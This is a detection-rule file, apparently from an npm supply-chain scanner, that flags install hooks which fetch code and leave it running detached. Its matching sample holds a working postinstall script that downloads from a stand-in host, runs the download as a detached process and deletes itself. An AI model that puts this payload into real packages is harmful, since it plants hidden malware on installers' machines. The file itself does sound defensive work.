import type { Rule } from '../rule';

export const hookDownloadAndDetach: Rule = {
  code: 'hook-download-and-detach',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary: 'An install hook fetches something, and leaves a program running that outlives the installation.',
  message: 'fetches and leaves a program running',
  pattern: { where: 'hooks', any: ['detached'], near: ['network'] },
  samples: {
    hits: [
      {
        what: 'a program left running (axios 1.14.1)',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node setup.js' } },
        files: {
          'setup.js':
            'const https = require("https"); function fetchIt(url, then) { https.get(url, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => then(d)); }); } const cp = require("child_process"); fetchIt("https://x.invalid", (d) => { require("fs").writeFileSync("/tmp/x", d); cp.spawn("/tmp/x", [], { detached: true }).unref(); require("fs").unlinkSync(__filename) })',
        },
        verdict: 'malicious',
        speaks: ['hook-covers-tracks'],
      },
    ],
    ignores: [
      {
        what: 'a page opened in a browser',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js': 'require("child_process").spawn("xdg-open", ["README.html"], { detached: true }).unref()',
        },
        why: 'Nothing was fetched that could go on running.',
        speaks: ['hook-subprocess'],
      },
    ],
  },
};
